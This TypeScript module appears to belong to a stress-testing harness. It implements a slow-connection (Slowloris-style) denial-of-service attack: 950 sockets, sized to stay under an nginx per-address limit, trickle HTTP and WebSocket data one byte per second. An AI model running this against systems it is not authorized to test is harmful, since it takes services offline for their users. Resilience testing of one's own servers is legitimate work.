/** A crowd of connections on which a byte comes every second. */
import type { Attack } from '../attack.ts';
import { closing, openConnection } from '../connections.ts';
import { keepDoing, within } from '../keep-doing.ts';
import { connectPacket, frameOf, upgradeRequest } from '../raw-guest.ts';
import { createTally } from '../tally.ts';

/** nginx lets one address have 1000. */
const connections = 950;
const everyMs = 1000;

/** Sent at once, and then byte by byte. */
const kinds: [atOnce: string, slowly: Buffer][] = [
  ['', Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n')],
  ['GET / HTTP/1.1\r\nHost: x\r\nX-A: ', Buffer.alloc(5000, 'x')],
  ['POST /nowhere HTTP/1.1\r\nHost: x\r\nContent-Length: 9999\r\n\r\n', Buffer.alloc(9999, 'x')],
  [upgradeRequest(), frameOf(connectPacket)],
];

export const slowConnections: Attack = {
  name: 'slow-connections',
  what: `${connections} connections that send a byte a second, of requests and of WebSockets`,
  async attack(target, until) {
    const tally = createTally();
    await keepDoing({
      ...{ until, tally, workers: connections },
      async work(worker) {
        const [atOnce, slowly] = kinds[worker % kinds.length] ?? ['', Buffer.alloc(0)];
        const socket = await openConnection(target);
        const closed = closing(socket);
        socket.resume();
        socket.write(atOnce);
        tally.count('connections');
        for (let at = 0; at < slowly.length && !socket.destroyed && !until.aborted; at++) {
          socket.write(slowly.subarray(at, at + 1));
          await within(everyMs, closed);
        }
        socket.destroy();
      },
    });
    return `${tally}`;
  },
};
